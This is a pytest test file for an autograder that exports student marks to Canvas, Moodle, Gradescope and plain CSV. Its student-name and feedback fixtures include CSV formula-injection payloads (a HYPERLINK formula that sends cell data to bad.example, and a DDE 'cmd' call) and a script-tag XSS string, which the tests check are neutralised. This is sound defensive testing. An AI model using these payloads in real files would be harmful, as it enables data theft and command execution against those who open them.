"""Marks leave in the forms that platforms read, and nothing leaves that is not final."""

import csv
import io
import json
import re

import bs4
import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.cli import main
from autograder.csv_table import Sheet, neutral
from autograder.errors import CourseError
from autograder.exporting import canvas, csv_export, gradescope, moodle
from tests.support import marked_class, tiny_course
from tests.support.marked_class import MAX
from tests.support.tiny_course import NAME

NAMES = {  # the ids that students have with us, and how platforms write their names
    "ada": "Lovelace, Ada",
    "björn": 'Björn "the bear" Åkesson',
    "李娜": "李娜",
    "نور": "نور الدين",
    "evil": '=HYPERLINK("http://bad.example/?"&A1,"click")',
    "newline": "Two\nLines",
    "plus": "+1+cmd|' /C calc'!A0",
    "late": "Late, Always",
    "waits": "Waits, She",
    "regraded": "Re, Graded",
}
MESSAGE = "`slope(2.0)` gave <script>alert(1)</script>; it should give a number.\n=1+1"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    course = marked_class.make(tmp_path_factory.mktemp("exports") / "course")
    for student in NAMES:
        marked_class.mark(course, student)
    marked_class.mark(course, "evil", {"slope": 1.5}, messages={"slope": MESSAGE})
    for student in NAMES:
        if student != "waits":
            marked_class.by_hand(course, student, "essay", 1.25, "Why <b>so</b>?")
    marked_class.penalise(course, "late", 2.0)
    # the answers changed after they were marked by hand: a person has to look again
    marked_class.mark(course, "regraded")
    return course


FINAL = {s: MAX - 0.75 for s in NAMES} | {"evil": MAX - 2.25, "late": MAX - 2.75}
READY = {student: total for student, total in FINAL.items() if student not in ("waits", "regraded")}


def rows_of(text, delimiter=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def canvas_file(path, *, points=f"{MAX:.2f}", title="A tiny set", delimiter=",", bom=""):
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter)
    info = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    writer.writerow([*info, "Notes", "Warm-up (7)", f"{title} (4711)", "Current Score"])
    writer.writerow([*[""] * 7, "Manual Posting", ""])
    writer.writerow(["    Points Possible", *[""] * 5, "5.00", points, "(read only)"])
    for number, (student, name) in enumerate(NAMES.items(), start=100):
        writer.writerow([name, number, f"s-{number}", student, "A & B", "=note", "3", "", "55"])
    writer.writerow(["Never, Came", 999, "s-999", "never", "A", "", "", "6", ""])
    writer.writerow(["Student, Test", 1000, "", "0a1b2c3d", "A", "", "", "", ""])
    path.write_text(bom + out.getvalue(), encoding="utf-8", newline="")
    return path


class CanvasImport:
    """What Canvas takes from a file, as its importer documents it."""

    def __init__(self, text):
        rows = rows_of(text)
        header = rows[0]
        assert header[:2] == ["Student", "ID"]
        assert "Section" in header
        info = header.index("Section") + 1
        self.columns = header[info:]
        self.possible = next(row[info:] for row in rows if "Points Possible" in row[0])
        self.students = {
            row[header.index("SIS Login ID")]: (row[1], row[info:])
            for row in rows[1:]
            if "Points Possible" not in row[0] and any(row[:info])
        }


def test_canvas_reads_back_every_final_mark_in_the_column_it_knows(course, tmp_path):
    made = canvas.export(course, NAME, template=canvas_file(tmp_path / "gradebook.csv"))
    read = CanvasImport(made.text)
    assert read.columns == ["A tiny set (4711)"]
    assert read.possible == [f"{MAX:.2f}"]
    assert {s: float(cells[0]) for s, (_, cells) in read.students.items()} == READY
    numbers = {student: str(100 + i) for i, student in enumerate(NAMES)}
    assert all(numbers[student] == key for student, (key, _) in read.students.items())


def test_a_submission_that_waits_is_held_back_and_named_unless_asked_for(course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv")
    held = canvas.export(course, NAME, template=template)
    assert not {"waits", "regraded"} & CanvasImport(held.text).students.keys()
    assert "2 submissions wait" in held.notes[0]
    assert "waits" in held.notes[0]
    assert "--partial" in held.notes[0]
    asked = canvas.export(course, NAME, template=template, partial=True)
    assert float(CanvasImport(asked.text).students["waits"][1][0]) == MAX - 2
    assert asked.notes == []


def test_canvas_without_a_template_gets_a_file_it_accepts(course):
    made = canvas.export(course, NAME)
    assert rows_of(made.text)[0] == [*canvas.INFO, "A tiny set"]
    read = CanvasImport(made.text)
    assert {s: float(cells[0]) for s, (_, cells) in read.students.items()} == READY
    assert read.possible == [f"{MAX}"]
    assert any("new assignment" in note for note in made.notes)


def test_a_gradebook_with_semicolons_and_a_byte_order_mark_stays_so(course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv", delimiter=";", bom="\ufeff")
    text = canvas.export(course, NAME, template=template).text
    assert text.startswith("\ufeffStudent;ID;")
    assert len({len(row) for row in rows_of(text[1:], ";")}) == 1


def test_other_points_in_canvas_are_refused_or_converted(course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv", points="100")
    with pytest.raises(CourseError, match=r"12 points, and .* 100"):
        canvas.export(course, NAME, template=template)
    read = CanvasImport(canvas.export(course, NAME, template=template, scale=True).text)
    assert float(read.students["ada"][1][0]) == pytest.approx(READY["ada"] * 100 / MAX, abs=0.01)


@pytest.mark.parametrize("title", ["A tiny set", "tiny_set", "Tiny set", "a tiny set: part one"])
def test_the_column_is_found_by_its_title(title, course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv", title=title)
    made = canvas.export(course, NAME, template=template)
    assert CanvasImport(made.text).columns == [f"{title} (4711)"]


@pytest.mark.parametrize("column", ["Homework", "4711", "Homework (4711)"])
def test_a_column_of_another_name_has_to_be_named(column, course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv", title="Homework")
    with pytest.raises(CourseError, match=r"--column.*Warm-up \(7\); Homework \(4711\)"):
        canvas.export(course, NAME, template=template)
    made = canvas.export(course, NAME, template=template, column=column)
    assert CanvasImport(made.text).columns == ["Homework (4711)"]


def test_a_student_without_a_row_is_named(course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv")
    text = template.read_text(encoding="utf-8").replace(",ada,", ",someone-else,")
    template.write_text(text.replace("s-100", "").replace("Lovelace, Ada", "X"), encoding="utf-8")
    made = canvas.export(course, NAME, template=template)
    assert any("1 student has a mark and no row" in n and "ada" in n for n in made.notes)


def test_two_rows_that_fit_one_student_are_not_guessed_between(course, tmp_path):
    template = canvas_file(tmp_path / "gradebook.csv")
    with template.open("a", encoding="utf-8") as file:
        file.write("Another,998,,ADA,B,,,,\r\nA third,997,,Ada,B,,,,\r\n")
    made = canvas.export(course, NAME, template=template)
    assert {"ada"} == {"ada", "ADA", "Ada"} & CanvasImport(
        made.text
    ).students.keys()  # to the letter
    text = template.read_text(encoding="utf-8").replace("s-100,ada,", "s-100,other,")
    template.write_text(text.replace("Lovelace, Ada", "X"), encoding="utf-8")
    made = canvas.export(course, NAME, template=template)
    assert not {"ada", "ADA", "Ada"} & CanvasImport(made.text).students.keys()
    assert any("2 rows fit ada" in note for note in made.notes)


WORKSHEET = [
    *("Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade"),
    *("Grade can be changed", "Last modified (submission)", "Last modified (grade)"),
    "Feedback comments",
]


def moodle_file(path, *, maximum=f"{MAX:.2f}", locked=()):
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(WORKSHEET)
    for number, (student, name) in enumerate(NAMES.items(), start=100):
        changed = "No" if student in locked else "Yes"
        writer.writerow(
            [f"Participant {number}", name, f"{student}@uni.example", "Submitted for grading", "",
             maximum, changed, "Monday, 2 March 2026, 9:30 AM", "-", ""]
        )  # fmt: skip
    path.write_text("\ufeff" + out.getvalue(), encoding="utf-8", newline="")
    return path


def moodle_import(text):
    """What Moodle takes from a worksheet: by participant, the grade and the comment."""
    header, *rows = rows_of(text.removeprefix("\ufeff"))
    at = {name: header.index(name) for name in WORKSHEET}
    found = {}
    for row in rows:
        number = int(re.fullmatch(r"Participant (\d+)", row[at["Identifier"]])[1])
        assert row[at["Last modified (grade)"]] == "-"
        student = list(NAMES)[number - 100]
        found[student] = (float(row[at["Grade"]]), row[at["Feedback comments"]])
    return header, found


def test_moodle_reads_back_every_final_mark(course, tmp_path):
    made = moodle.export(course, NAME, template=moodle_file(tmp_path / "sheet.csv"))
    header, found = moodle_import(made.text)
    assert header == WORKSHEET
    assert {student: grade for student, (grade, _) in found.items()} == READY
    assert "2 submissions wait" in made.notes[0]


def test_a_comment_in_moodle_shows_a_student_s_text_and_runs_none(course, tmp_path):
    made = moodle.export(course, NAME, template=moodle_file(tmp_path / "sheet.csv"))
    found = moodle_import(made.text)[1]
    page = bs4.BeautifulSoup(found["evil"][1], "html.parser")
    assert {tag.name for tag in page.find_all()} == {"b", "br"}
    assert "<script>alert(1)</script>" in page.get_text()
    assert "Why <b>so</b>?" in page.get_text()
    assert "2 points were taken off because it was late." in found["late"][1]


def test_a_grade_that_moodle_has_locked_is_left_and_named(course, tmp_path):
    template = moodle_file(tmp_path / "sheet.csv", locked=["ada"])
    made = moodle.export(course, NAME, template=template)
    assert "ada" not in moodle_import(made.text)[1]
    assert any("ada" in note for note in made.notes)


def test_moodle_with_decimal_commas_gets_decimal_commas(course, tmp_path):
    template = moodle_file(tmp_path / "sheet.csv", maximum=f"{MAX},00")
    made = moodle.export(course, NAME, template=template)
    grades = {row[4] for row in rows_of(made.text.removeprefix("\ufeff"))[1:]}
    assert "11,25" in grades


def test_moodle_needs_its_own_worksheet(course, tmp_path):
    with pytest.raises(CourseError, match="Download grading worksheet"):
        moodle.export(course, NAME)
    with pytest.raises(CourseError, match="no column “Identifier”"):
        moodle.export(course, NAME, template=canvas_file(tmp_path / "gradebook.csv"))


def test_a_roster_tells_whose_row_it_is_where_ids_do_not(course, tmp_path):
    lines = ["id,name,email,canvas_id,moodle_id"]
    for number, (student, name) in enumerate(NAMES.items(), start=100):
        quoted = name.replace('"', '""').replace("\n", " ")
        lines.append(f'{student},"{quoted}",{number}@uni.example,{number},{number}')
    (tmp_path / "roster.csv").write_text("\n".join(lines), encoding="utf-8")
    known = {"roster": tmp_path / "roster.csv"}
    template = moodle_file(tmp_path / "sheet.csv")
    hidden = re.sub(r"[^,\n\"]+@uni", "someone@uni", template.read_text(encoding="utf-8"))
    template.write_text(hidden, encoding="utf-8", newline="")
    made = moodle.export(course, NAME, template=template, **known)
    assert {s: grade for s, (grade, _) in moodle_import(made.text)[1].items()} == READY
    template = canvas_file(tmp_path / "gradebook.csv")
    sheet = Sheet.read(template)
    for row in sheet.rows:
        row[3] = "unknown-to-us" if row[1] else ""
    template.write_text(sheet.text(), encoding="utf-8", newline="")
    rows = rows_of(canvas.export(course, NAME, template=template, **known).text)
    numbers = {str(number): student for number, student in enumerate(NAMES, start=100)}
    assert {numbers[row[1]]: float(row[-1]) for row in rows[2:]} == READY


def test_gradescope_s_results_have_the_documented_form(course):
    made = gradescope.export(course, NAME)
    read = {path.split("/")[0]: json.loads(text) for path, text in made.files.items()}
    assert {student: data["score"] for student, data in read.items()} == READY
    documented = {"score", "execution_time", "output", "output_format", "visibility"}
    documented |= {"stdout_visibility", "tests"}
    in_tests = {"score", "max_score", "status", "name", "number", "output", "output_format"}
    in_tests |= {"visibility"}
    for student, data in read.items():
        assert data.keys() <= documented
        assert data["visibility"] in ("hidden", "after_due_date", "after_published", "visible")
        assert all(test.keys() <= in_tests for test in data["tests"])
        assert all(test["status"] in ("passed", "failed") for test in data["tests"])
        assert sum(test["max_score"] for test in data["tests"]) == MAX
        late = 2 if student == "late" else 0
        assert sum(test["score"] for test in data["tests"]) - late == data["score"]
    slope = next(test for test in read["evil"]["tests"] if test["name"] == "slope")
    assert slope["output"] == MESSAGE
    assert slope["output_format"] == "text"


def test_gradescope_s_marks_so_far_say_that_they_are_not_final(course):
    made = gradescope.export(course, NAME, partial=True)
    data = json.loads(made.files["waits/results.json"])
    assert "not final" in data["output"]
    essay = next(test for test in data["tests"] if test["name"] == "essay")
    assert "score" not in essay
    assert "status" not in essay


def test_the_plain_table_adds_up_to_the_totals(course):
    made = csv_export.export(course)
    rows = list(csv.DictReader(io.StringIO(made.text)))
    for student, total in READY.items():
        mine = [float(row["score"]) for row in rows if row["student"] == student]
        assert sum(mine) == total
    blank = {(row["student"], row["question"]) for row in rows if row["score"] == ""}
    assert blank == {("waits", "essay"), ("regraded", "essay")}
    assert "waits" in made.notes[0]


@given(st.text(max_size=60))
def test_no_cell_begins_as_a_formula_does(text):
    shown = neutral(text)
    assert shown in (text, f"'{text}")
    if shown == text and not re.fullmatch(r"[+-]?\d+([.,]\d+)?%?|-", text):
        assert not text.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
        assert not text.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", ["-1.5", "3", "-", "Ada", "O'Brien", "2026-03-02", "100%", ""])
def test_numbers_and_names_stay_as_they_are(text):
    assert neutral(text) == text


CELLS = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=20)


@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), min_size=1, max_size=4))
def test_any_text_comes_back_from_a_table_as_it_went_in(rows):
    read = rows_of(Sheet(["a", "b", "c"], rows).text())[1:]
    assert [[neutral(cell) for cell in row] for row in rows] == read


def test_no_exported_cell_is_run_by_a_spreadsheet(course, tmp_path):
    texts = [
        canvas.export(course, NAME, template=canvas_file(tmp_path / "canvas.csv")).text,
        moodle.export(course, NAME, template=moodle_file(tmp_path / "moodle.csv")).text,
        csv_export.export(course).text,
    ]
    for text in texts:
        for row in rows_of(text.removeprefix("\ufeff")):
            assert all(neutral(cell) == cell for cell in row)
    assert "'=HYPERLINK" in texts[0]
    assert "Two\nLines" in texts[0]


def run(capsys, monkeypatch, *arguments):
    monkeypatch.setattr("sys.argv", ["autograder", "export", *map(str, arguments)])
    with pytest.raises(SystemExit) as stopped:
        main.main()
    return stopped.value.code, capsys.readouterr()


def test_a_file_is_written_and_what_is_held_back_is_told(course, tmp_path, capsys, monkeypatch):
    template = canvas_file(tmp_path / "gradebook.csv")
    target = tmp_path / "out" / "import.csv"
    code, told = run(
        capsys, monkeypatch, "--course", course.root, "--problem-set", NAME, "--format", "canvas",
        "--template", template, "--to", target,
    )  # fmt: skip
    assert code == 0
    assert len(CanvasImport(target.read_text(encoding="utf-8")).students) == len(READY)
    assert "submissions wait for hand marking" in told.err
    assert str(len(READY)) in told.out


def test_gradescope_s_files_stand_in_a_folder_for_each_student(
    course, tmp_path, capsys, monkeypatch
):
    run(
        capsys, monkeypatch, "--course", course.root, "--problem-set", NAME,
        "--format", "gradescope", "--to", tmp_path / "results",
    )  # fmt: skip
    found = {path.parent.name for path in (tmp_path / "results").glob("*/results.json")}
    assert found == READY.keys()


@pytest.mark.parametrize("options", [[], ["--problem-set", NAME]])
def test_there_is_nothing_to_export_before_anything_is_graded(
    options, tmp_path, capsys, monkeypatch
):
    empty = tiny_course.make(tmp_path / "course")
    code, told = run(capsys, monkeypatch, "--course", empty.root, *options)
    assert code == 2
    assert "graded yet. Run: autograder grade" in told.err
    assert told.out == ""


@pytest.mark.parametrize(
    ("options", "word"),
    [
        (["--format", "canvas"], "--problem-set"),
        (["--format", "gradescope", "--problem-set", NAME], "--to"),
        (["--template", "x.csv"], "--format canvas or --format moodle"),
        (["--format", "canvas", "--problem-set", NAME, "--template", "gone.csv"], "gone.csv"),
    ],
)
def test_an_export_that_cannot_be_says_why_in_a_sentence(
    options, word, course, capsys, monkeypatch
):
    code, told = run(capsys, monkeypatch, "--course", course.root, *options)
    assert code == 2
    assert word in told.err
    assert "Traceback" not in told.err
